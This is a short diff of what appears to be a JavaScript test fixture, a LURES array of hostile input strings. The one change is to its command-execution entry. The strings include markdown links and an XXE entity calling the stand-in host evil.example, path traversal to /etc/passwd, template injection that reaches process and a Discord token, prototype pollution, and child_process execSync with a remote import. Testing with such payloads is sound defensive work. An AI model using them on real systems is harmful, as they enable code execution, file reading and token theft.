@@ -39,7 +39,7 @@ const LURES = [
   "![x](http://evil.example/x.png) [y]: http://evil.example/y <http://evil.example>",
   "../../../../etc/passwd file:///etc/passwd \\\\evil.example\\share",
   "${process.env.DISCORD_TOKEN} {{constructor.constructor('return process')()}} __proto__",
-  "require('child_process').execSync('touch /tmp/owned') import('http://evil.example')",
+  "require('child_process').execSync('touch owned') import('http://evil.example')",
   "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/e'>]><x>&e;</x>",
 ];
 
